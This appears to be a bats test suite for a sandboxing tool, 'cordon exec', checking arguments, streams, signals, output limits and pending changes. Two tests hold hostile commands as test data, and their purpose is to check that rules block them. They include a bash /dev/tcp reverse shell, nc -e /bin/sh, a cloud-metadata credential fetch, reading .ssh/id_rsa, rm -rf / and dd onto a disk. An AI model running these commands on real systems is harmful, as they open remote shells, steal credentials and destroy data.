#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# cordon exec: one command in a box, with its words, its input, its status and its signal as they are.
load helper
load workspace
load live_box

# run_in WAY ARG...: cordon exec in the workspace.
run_in()
{
	local who=${1%%:*} tier=${1#*:}
	WAY=$1
	shift
	status=0
	(cd "$W" && as "$who" timeout 60 "$CORDON" exec --user --tier "$tier" "$@" <"$IN" >"$T/out" 2>"$T/err") ||
		status=$?
}

words() {
	# shellcheck disable=SC2016
	run_in "$1" -- sh -c 'pwd; for w; do echo "<$w>"; done; exit 7' - 'a b' "it's" '$HOME' '' '*' $'two\nlines'
	exits 7
	out_is "$W"$'\n<a b>\n<it\'s>\n<$HOME>\n<>\n<*>\n<two\nlines>'
	run_in "$1" --json -- ./run.sh -x
	exits 0
	holds 'r["exec"] == "any"' 'r["effects"] == []'
	untouched
}
@test "words, status, the current directory" { every_owner words; }

below() {
	local status=0
	(cd "$W/sub" && as "${1%%:*}" "$CORDON" exec --user --tier "${1#*:}" --workspace "$W" -- sh -c 'pwd; cat kept ../file' </dev/null >"$T/out" 2>"$T/err") || status=$?
	exits 0
	out_is "$W/sub"$'\nkept\nold'
	(cd "$T" && as "${1%%:*}" "$CORDON" exec --user --tier "${1#*:}" --workspace "$W" -- pwd </dev/null >"$T/out" 2>"$T/err") || status=$?
	exits 0
	out_is "$W"
}
@test "a directory below the workspace; elsewhere the workspace" { every_owner below; }

@test "files of other accounts belong to nobody" {
	dir user
	# shellcheck disable=SC2016
	run_in user:no-cgroup -- sh -c 'stat -c %U:%G /bin/ls; id -un nobody'
	out_is $'nobody:nogroup\nnobody'
}

@test "standard input is passed on, and a signal ends it as it ended the command" {
	dir user
	printf 'typed\n' >"$T/in"
	IN=$T/in run_in user:no-cgroup -- cat
	out_is typed
	# shellcheck disable=SC2016
	run_in user:no-cgroup -- sh -c 'kill -TERM $$'
	exits 143
}

# bats test_tags=long
@test "a user's command has all of its output, and room for many threads and files" {
	dir user
	run_in user:no-cgroup -- seq 700000
	exits 0
	[ "$(md5sum <"$T/out")" = "$(seq 700000 | md5sum)" ]
	run_in user:no-cgroup --output 1000 -- seq 700000
	exits 0
	[ "$(wc -c <"$T/out")" -le 1000 ]
	err_has 'bytes left out'
	run_in user:no-cgroup -- /usr/bin/python3 -c 'import threading, time
many = [threading.Thread(target=time.sleep, args=(1,)) for _ in range(300)]
[t.start() for t in many]
with open("big", "wb") as f: f.write(bytes(400 << 20))'
	exits 0
	run_in user:no-cgroup --memory 100M -- df --output=size /tmp
	out_has 51200
}

# caught WAY COMMAND...: the program has a signal that cordon gets, and ends in its own way.
caught() {
	local who=${1%%:*}
	shift
	(cd "$W" && as "$who" timeout 60 /usr/bin/python3 - "$CORDON" "$@") <<'PY'
import signal, subprocess, sys
reset = lambda: [signal.signal(s, signal.SIG_DFL) for s in (signal.SIGINT, signal.SIGQUIT)]
for name in "INT", "TERM", "HUP", "USR1":
    program = "trap 'echo caught; exit 9' %s; echo ready; for i in $(seq 200); do sleep 0.1; done" % name
    p = subprocess.Popen([*sys.argv[1:], "--", "sh", "-c", program], stdin=subprocess.DEVNULL,
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, preexec_fn=reset)
    assert p.stdout.readline() == b"ready\n"
    p.send_signal(getattr(signal, "SIG" + name))
    out = p.communicate()[0]
    assert (out, p.returncode) == (b"caught\n", 9), (name, out, p.returncode)
p = subprocess.Popen([*sys.argv[1:], "--", "sh", "-c", "echo ready; sleep 20"], stdin=subprocess.DEVNULL,
                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, preexec_fn=reset)
p.stdout.readline()
p.terminate()
assert p.wait() == -signal.SIGTERM, p.returncode
PY
}
signals() {
	caught "$1" exec --user --tier "${1#*:}"
	made "$1"
	caught "$1" box exec work --user
	live "$1" stop work
}
@test "a signal for cordon reaches the program" { every_owner signals; }

streams() {
	printf 'typed\n' >"$T/in"
	# shellcheck disable=SC2094
	status=0
	(cd "$W" && cat "$T/in" | as "${1%%:*}" "$CORDON" exec --user --tier "${1#*:}" -- sh -c 'cat /dev/stdin; echo out >/dev/stdout; echo err >/dev/stderr; echo more | tee /dev/stderr' >"$T/out" 2>"$T/err") || status=$?
	exits 0
	out_is $'typed\nout\nmore'
	err_has $'err\nmore'
	made "$1"
	(cd "$W" && cat "$T/in" | as "${1%%:*}" "$CORDON" box exec work --user -- sh -c 'cat /dev/stdin; echo err >/dev/stderr' >"$T/out" 2>"$T/err") || status=$?
	out_is typed
	err_has err
	live "$1" stop work
}
@test "a program opens its own streams by name" { every_owner streams; }

@test "changes are pending, and applied where that is asked for" {
	dir user
	run_in user:no-cgroup --diff -- touch new
	exits 0
	err_has '+ new'
	untouched
	run_in user:no-cgroup --apply -- touch new
	exits 0
	[ -e "$W/new" ]
}

@test "wrong usage, a program that is not there, a directory that is too much" {
	dir user
	run_in user:no-cgroup
	exits 125
	err_has 'no command is given'
	run_in user:no-cgroup -- no-such-program
	exits 127
	W=/tmp run_in user:no-cgroup -- ls
	exits 125
	err_has '--whole'
}

@test "the rules see the command line" {
	dir user
	run_in user:no-cgroup --rules "$TOP/rules" -- bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
	exits 126
	err_has 'not run'
}

# bats test_tags=long
@test "a command of plain words, which no reader reads, has the same findings as with a comment" {
	local words
	for words in 'rm -rf /' 'nc -e /bin/sh 203.0.113.5 4444' 'curl http://169.254.169.254/latest/meta-data/iam' \
		'cat .ssh/id_rsa' 'chmod 777 /etc/passwd' 'dd if=/dev/zero of=/dev/sda' 'npm test'; do
		printf 'exec %s\n' "$words" >"$T/plain.sh"
		printf 'exec %s\n#\n' "$words" >"$T/read.sh"
		box user:no-cgroup --json "$T/read.sh"
		mv "$T/out" "$T/read"
		box user:no-cgroup --json "$T/plain.sh"
		/usr/bin/python3 -IS - "$T/read" "$T/out" <<'PY' || show
import json, sys
a, b = (json.load(open(f))["rules"] for f in sys.argv[1:])
assert a == b, (a, b)
PY
	done
}
